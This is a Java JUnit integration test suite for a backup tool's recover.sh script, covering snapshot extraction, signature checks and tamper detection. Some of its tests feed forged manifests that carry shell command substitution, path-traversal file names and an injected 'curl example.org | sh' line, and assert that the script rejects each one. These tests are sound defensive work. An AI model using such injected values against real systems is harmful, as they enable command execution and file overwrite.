package org.stellaops.backup.interop;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.stellaops.backup.BackupEngine;
import org.stellaops.backup.BackupRepository;
import org.stellaops.backup.crypto.AgeIdentity;
import org.stellaops.backup.crypto.AgeRecipient;
import org.stellaops.backup.crypto.WriterKeyFile;
import org.stellaops.backup.files.DirectorySink;
import org.stellaops.backup.model.Digest;
import org.stellaops.backup.model.Secret;
import org.stellaops.backup.model.SnapshotRef;
import org.stellaops.backup.model.Trust;
import org.stellaops.backup.plan.BackupPlan;
import org.stellaops.backup.plan.BackupRequest;
import org.stellaops.backup.plan.CopyRequest;
import org.stellaops.backup.spi.Recipient;

/** {@code recover.sh} and {@code FORMAT.txt}, as a repository holds them. */
@Tag("interop")
class RecoverScriptIT {
  private static final String ENTRY_1 = "log/host-a/0000000002.entry";
  private static final String ENTRY_2 = "log/host-a/0000000004.entry";
  private static final String PASSPHRASE = "correct horse battery staple";
  private static final long SEED = 20261121;

  @TempDir Path directory;

  private StockTools tools;
  private Path repository;
  private Path signers;
  private Path owner;
  private Path out;
  private AgeIdentity identity;
  private int snapshots;
  private final Blobs blobs =
      new Blobs().with("empty", new byte[0]).with("large", random(SEED, 12_000_000));

  @BeforeEach
  void makeIdentity() throws Exception {
    tools = new StockTools(directory);
    repository = directory.resolve("repository");
    signers = directory.resolve("allowed_signers");
    owner = directory.resolve("owner.txt");
    out = directory.resolve("out");
    identity = AgeIdentity.generate();
    identity.writeTo(owner);
  }

  @AfterEach
  void leaveNoKeyBehind() throws Exception {
    identity.close();
    assertEquals(List.of(), tools.left(), "keys and plain packs");
    tools.close();
  }

  @Test
  void a_snapshot_is_listed_verified_and_extracted() throws Exception {
    backUp(identity.recipient());

    String listed = recover("list").good();
    String verified = recover("verify", ENTRY_1, signers).good();
    recover("extract", ENTRY_1, owner, out, signers).good();

    assertTrue(listed.matches(ENTRY_1 + "  20.*Z  good  nightly-1\n"), listed);
    assertTrue(verified.contains("Good \"stella-backup-v1\" signature for host-a"), verified);
    assertTrue(verified.endsWith(ENTRY_1 + ": intact\n"), verified);
    requireEqual(blobs.all());
  }

  @Test
  void a_copy_of_one_of_several_snapshots_gives_it_back() throws Exception {
    backUp(identity.recipient());
    backUp(identity.recipient());
    Path primary = repository;
    repository = directory.resolve("copy");
    try (BackupRepository from = BackupRepository.at(DirectorySink.at(primary)).open()) {
      from.copy(CopyRequest.to(DirectorySink.at(repository)).only(SnapshotRef.named("nightly-2")))
          .requireComplete();
    }
    Files.move(primary, directory.resolve("gone"));

    String listed = recover("list").good();
    String verified = recover("verify", ENTRY_2, signers).good();
    recover("extract", ENTRY_2, owner, out, signers).good();

    assertTrue(listed.matches(ENTRY_2 + "  20.*Z  good  nightly-2\n"), listed);
    assertTrue(verified.contains("is not here; that is so in a copy"), verified);
    requireEqual(blobs.all());
  }

  @Test
  void state_that_was_let_go_of_is_not_missed() throws Exception {
    backUp(identity.recipient());
    for (Path state : files("state")) {
      Files.delete(state);
    }

    recover("verify", ENTRY_1, signers).good();

    Files.delete(files("manifests").get(0));
    recover("verify", ENTRY_1, signers).failed("something it names is damaged");
  }

  @Test
  void what_takes_turns_between_the_packs_of_many_snapshots_is_extracted() throws Exception {
    byte[] large = blobs.all().get("large");
    for (int snapshot = 1; snapshot <= 7; snapshot++) {
      backUp(identity.recipient());
      for (int at = snapshot * 150_000; at < large.length; at += 2_000_000) {
        large[at]++;
      }
    }
    backUp(identity.recipient());

    recover("extract", "log/host-a/0000000016.entry", owner, out, signers).good();

    requireEqual(blobs.all());
  }

  @Test
  void two_thousand_artifacts_are_extracted_and_each_pack_opened_once() throws Exception {
    for (int i = 0; i < 2000; i++) {
      blobs.with("small-" + i, random(SEED + i, 100 + i % 7));
    }
    backUp(identity.recipient());

    recover("extract", ENTRY_1, owner, out, signers).good();

    requireEqual(blobs.all());
  }

  @Test
  void who_was_let_in_later_extracts_what_was_there_before() throws Exception {
    backUp(identity.recipient());
    Path later = directory.resolve("later.txt");
    try (AgeIdentity another = AgeIdentity.generate();
        BackupEngine engine = BackupEngine.open(plan(identity.recipient()))) {
      another.writeTo(later);
      String epoch = engine.keys().epochs().get(0).id();
      engine.keys().rewrap(epoch, identity, another.recipient());
    }

    recover("extract", ENTRY_1, later, out, signers).good();

    requireEqual(blobs.all());
  }

  @Test
  void the_recipe_in_FORMAT_txt_works_as_it_is_written() throws Exception {
    backUp(identity.recipient());
    String recipe =
        Files.readAllLines(repository.resolve("FORMAT.txt")).stream()
            .dropWhile(line -> !line.startsWith("By hand"))
            .filter(line -> line.startsWith("    "))
            .reduce("cd '" + repository + "'", (text, line) -> text + "\n" + line);
    String printed =
        tools
            .with("E", ENTRY_1)
            .with("P", signers.toString())
            .with("I", owner.toString())
            .with("S", Files.createDirectory(directory.resolve("by-hand")).toString())
            .with("A", "blobs/large")
            .with("O", directory.resolve("large").toString())
            .bash("-euc", recipe)
            .good();

    assertArrayEquals(blobs.all().get("large"), Files.readAllBytes(directory.resolve("large")));
    String digest = Digest.ofContent(blobs.all().get("large")).hex();
    assertEquals(2, printed.split(digest, -1).length - 1, "in the manifest and measured");
  }

  @ParameterizedTest
  @ValueSource(strings = {"packs", "manifests", "lists", "state", "log/host-a"})
  void a_flipped_bit_is_found(String where) throws Exception {
    backUp(identity.recipient());
    for (Path file : files(where)) {
      byte[] good = Files.readAllBytes(file);
      byte[] bad = good.clone();
      bad[good.length / 2] ^= 1;
      Files.write(file, bad);

      recover("verify", ENTRY_1, signers).failed("recover.sh: ");
      Files.write(file, good);
    }
    recover("verify", ENTRY_1, signers).good();
  }

  @Test
  void a_damaged_pack_is_not_extracted() throws Exception {
    backUp(identity.recipient());
    Path pack = files("packs").get(0);
    byte[] bytes = Files.readAllBytes(pack);
    bytes[bytes.length / 2] ^= 1;
    Files.write(pack, bytes);

    recover("extract", ENTRY_1, owner, out, signers).failed("blobs/large: cannot be read");
  }

  @Test
  void a_writer_who_is_not_trusted_is_refused() throws Exception {
    backUp(identity.recipient());
    WriterKeyFile other = WriterKeyFile.at(directory.resolve("other.key")).named("host-a");
    other.open().close();
    Files.writeString(signers, Trust.owner(other.id()).toAllowedSigners());

    recover("verify", ENTRY_1, signers).failed("the signature does not verify");
    recover("extract", ENTRY_1, owner, out, signers).failed("the signature does not verify");
  }

  @Test
  void without_signers_it_says_that_nobody_vouches() throws Exception {
    backUp(identity.recipient());

    String printed = recover("verify", ENTRY_1).good();

    assertTrue(printed.contains("not who made it"), printed);
  }

  @Test
  void an_entry_that_was_put_in_the_place_of_another_is_refused() throws Exception {
    backUp(identity.recipient());
    backUp(identity.recipient());
    Files.copy(repository.resolve(ENTRY_1), repository.resolve("log/host-a/0000000005.entry"));

    recover("verify", "log/host-a/0000000005.entry", signers).failed("it is entry 2 of the log");
  }

  @Test
  void an_entry_after_another_that_was_changed_is_refused() throws Exception {
    backUp(identity.recipient());
    backUp(identity.recipient());
    recover("verify", ENTRY_2, signers).good();
    Path first = repository.resolve(ENTRY_1);
    Files.writeString(first, Files.readString(first).replace("nightly-1", "nightly-0"));

    recover("verify", ENTRY_2, signers)
        .failed(ENTRY_1 + ": not what log/host-a/0000000003.entry follows");
  }

  @Test
  void what_follows_a_signature_is_refused() throws Exception {
    backUp(identity.recipient());
    Path entry = repository.resolve(ENTRY_1);
    String good = Files.readString(entry);
    for (String more : List.of("#sig more\n", "# kind: verify\n", "more\n")) {
      Files.writeString(entry, good + more);

      recover("verify", ENTRY_1, signers).failed("something follows the signature");
    }
  }

  @Test
  void an_identity_under_a_passphrase_is_asked_for_it() throws Exception {
    backUp(identity.recipient());
    Path sealed = directory.resolve("identity.age");
    identity.writeTo(sealed, Secret.of(PASSPHRASE));

    tools.bashAtTerminal(PASSPHRASE, script(), "extract", ENTRY_1, sealed, out, signers).good();

    requireEqual(blobs.all());
  }

  @Test
  void a_backup_for_a_passphrase_asks_for_it() throws Exception {
    backUp(AgeRecipient.passphrase(Secret.of(PASSPHRASE)));

    tools.bashAtTerminal(PASSPHRASE, script(), "extract", ENTRY_1, "-", out, signers).good();

    requireEqual(blobs.all());
  }

  @Test
  void another_identity_opens_nothing() throws Exception {
    backUp(identity.recipient());
    Path other = directory.resolve("other.txt");
    try (AgeIdentity another = AgeIdentity.generate()) {
      another.writeTo(other);
    }

    recover("extract", ENTRY_1, other, out, signers).failed("does not open the snapshot");
  }

  /** Nobody signs it, but somebody may be in need enough to try. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "[\"PACK\",\"root[$(>DIR/pwned)]\",9,9]",
        "[\"PACK\",0,\"root[$(>DIR/pwned)]\",9]",
        "[\"../../../../owner.txt\",0,9,9]",
        "[\"PACK\",0]"
      })
  void a_manifest_of_an_attacker_cannot_make_it_do_anything(String run) throws Exception {
    backUp(identity.recipient());
    String pack = files("packs").get(0).toString().replaceAll(".*/packs/(.*)\\.age", "$1");
    String forged = run.replace("PACK", pack).replace("DIR", directory.toString());
    replaceManifest(
        """
        {"artifact":"blobs/large","size":9,"sha256":"%s"}
        {"of":"blobs/large","runs":[%s]}
        """
            .formatted("0".repeat(64), forged));

    StockTools.Result result = recover("extract", ENTRY_1, owner, out);

    assertFalse(Files.exists(directory.resolve("pwned")), "what stands in place of a number");
    result.failed("the manifest cannot be read");
  }

  @ParameterizedTest
  @ValueSource(strings = {"../escaped", "/escaped", "a/../../escaped", "a/b/c", ".a/b", "a/$b"})
  void a_manifest_of_an_attacker_cannot_name_a_file_elsewhere(String name) throws Exception {
    backUp(identity.recipient());
    replaceManifest(
        "{\"artifact\":\"%s\",\"size\":0,\"sha256\":\"%s\"}\n".formatted(name, "0".repeat(64)));

    recover("extract", ENTRY_1, owner, out).failed("not a name to write to");
  }

  private static final String HEAD =
      """
      {"manifest":1,"name":"n","taken":"t","outcome":"good","plan":"p","writer":"host-a"}
      {"source":"cfg","component":"config","kind":"files/1","versions":{},"properties":{"root":"/etc"}}
      """;

  @Test
  void the_steps_to_a_new_host_have_no_line_of_an_attackers() throws Exception {
    backUp(identity.recipient());
    String evil = "5\\u001b]0;x\\u0007\\n\\n## 9. More\\n```\\ncurl example.org | sh\\n```";
    replaceManifest(
        HEAD
            + "{\"artifact\":\"cfg/files.tar\",\"size\":1,\"sha256\":\"00\"}\n"
            + "{\"inventory\":\"cfg\",\"items\":[{\"name\":\"n\",\"count\":\"%s\"}]}\n"
                .formatted(evil));

    String page = recover("host", ENTRY_1, owner).good();

    assertTrue(page.contains("n 5?]0;x?"), page);
    assertTrue(page.chars().noneMatch(c -> c < ' ' && c != '\n' && c != '\t'), page);
    assertTrue(page.lines().noneMatch(l -> l.startsWith("## 9") || l.startsWith("curl")), page);
  }

  @Test
  void a_name_that_ends_with_a_line_is_no_name() throws Exception {
    backUp(identity.recipient());
    replaceManifest(HEAD + "{\"artifact\":\"cfg/files.tar\\n\",\"size\":1,\"sha256\":\"00\"}\n");

    recover("host", ENTRY_1, owner).failed("nobody should carry out");
  }

  @Test
  void what_the_caller_has_under_the_name_of_the_folder_of_keys_stays() throws Exception {
    backUp(identity.recipient());
    Path mine = Files.createDirectory(directory.resolve("mine"));
    Files.writeString(mine.resolve("key"), "mine");
    tools.with("secret", mine.toString()).with("CDPATH", directory.toString());

    recover("list").good();
    recover("verify", ENTRY_1, signers).good();
    recover("extract", ENTRY_1, owner, out, signers).good();
    recover("nonsense").failed("recover.sh");

    try (Stream<Path> left = Files.list(mine)) {
      assertEquals(List.of(mine.resolve("key")), left.toList());
    }
    assertEquals(List.of(), tools.left());
    requireEqual(blobs.all());
  }

  @Test
  void keys_lie_on_no_disk_unless_somebody_says_so() throws Exception {
    backUp(identity.recipient());
    tools.with("RECOVER_TMP", directory.resolve("absent").toString());

    recover("extract", ENTRY_1, owner, out, signers).failed("name one in memory by RECOVER_TMP");
  }

  private void backUp(Recipient recipient) throws Exception {
    try (BackupEngine engine = BackupEngine.open(plan(recipient))) {
      engine.backup(BackupRequest.full().named("nightly-" + ++snapshots));
    }
    Files.writeString(signers, Trust.writers(keys().id()).toAllowedSigners());
  }

  private WriterKeyFile keys() {
    return WriterKeyFile.at(directory.resolve("writer.key")).named("host-a");
  }

  private BackupPlan plan(Recipient recipient) throws Exception {
    return BackupPlan.named("test")
        .source("blobs", blobs)
        .encryptTo(recipient)
        .writer(keys())
        .sink(DirectorySink.at(repository))
        .build();
  }

  private Path script() {
    return repository.resolve("recover.sh");
  }

  private StockTools.Result recover(Object... arguments) throws Exception {
    Object[] all = new Object[arguments.length + 1];
    all[0] = script();
    System.arraycopy(arguments, 0, all, 1, arguments.length);
    return tools.bash(all);
  }

  private List<Path> files(String where) throws IOException {
    try (Stream<Path> paths = Files.walk(repository)) {
      List<Path> found =
          paths
              .filter(Files::isRegularFile)
              .filter(p -> p.toString().contains("/" + where + "/"))
              .toList();
      assertFalse(found.isEmpty(), where);
      return found;
    }
  }

  private void requireEqual(Map<String, byte[]> expected) throws IOException {
    for (Map.Entry<String, byte[]> blob : expected.entrySet()) {
      assertArrayEquals(
          blob.getValue(),
          Files.readAllBytes(out.resolve("blobs").resolve(blob.getKey())),
          "%s, seed %d".formatted(blob.getKey(), SEED));
    }
  }

  /** A manifest that anybody can make who may write to the store, since recipients are public. */
  private void replaceManifest(String lines) throws Exception {
    Path entry = repository.resolve(ENTRY_1);
    String text = Files.readString(entry);
    Matcher recipient =
        Pattern.compile("# recipient: (age1\\S+)")
            .matcher(Files.readString(repository.resolve("log/admin/0000000001.entry")));
    assertTrue(recipient.find());
    byte[] sealed = sealed(lines, AgeRecipient.parse(recipient.group(1)));
    String digest = Digest.ofContent(sealed).hex();
    String name = "w/host-a/manifests/%s-%d.age".formatted(digest, sealed.length);
    Files.write(repository.resolve(name), sealed);
    Files.writeString(
        entry,
        text.replaceFirst("(?m)^[0-9a-f]{64}  w/host-a/manifests/.*$", digest + "  " + name));
  }

  private static byte[] sealed(String lines, AgeRecipient recipient) throws Exception {
    Process zstd = new ProcessBuilder(StockTools.find("zstd").toString(), "-qc").start();
    try (OutputStream in = zstd.getOutputStream()) {
      in.write(lines.getBytes(StandardCharsets.US_ASCII));
    }
    var sealed = new ByteArrayOutputStream();
    try (InputStream frame = zstd.getInputStream();
        var sealing = recipient.format().seal(sealed, List.of(recipient))) {
      frame.transferTo(sealing);
      sealing.finish();
    }
    assertEquals(0, zstd.waitFor());
    return sealed.toByteArray();
  }

  private static byte[] random(long seed, int length) {
    byte[] bytes = new byte[length];
    new Random(seed).nextBytes(bytes);
    return bytes;
  }
}
